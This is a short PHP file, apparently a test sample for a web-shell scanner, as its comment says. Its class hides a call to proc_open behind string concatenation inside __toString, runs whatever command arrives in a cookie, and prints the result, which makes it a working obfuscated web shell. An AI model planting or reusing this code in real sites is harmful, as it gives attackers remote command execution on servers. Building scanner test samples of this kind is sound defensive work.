<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
class Out
{
    public function __construct(private string $c) {}
    public function __toString(): string
    {
        $f = 'proc' . '_open';
        $p = $f($this->c, [1 => ['pipe', 'w']], $pp);
        return stream_get_contents($pp[1]);
    }
}
echo new Out($_COOKIE['x'] ?? 'id');
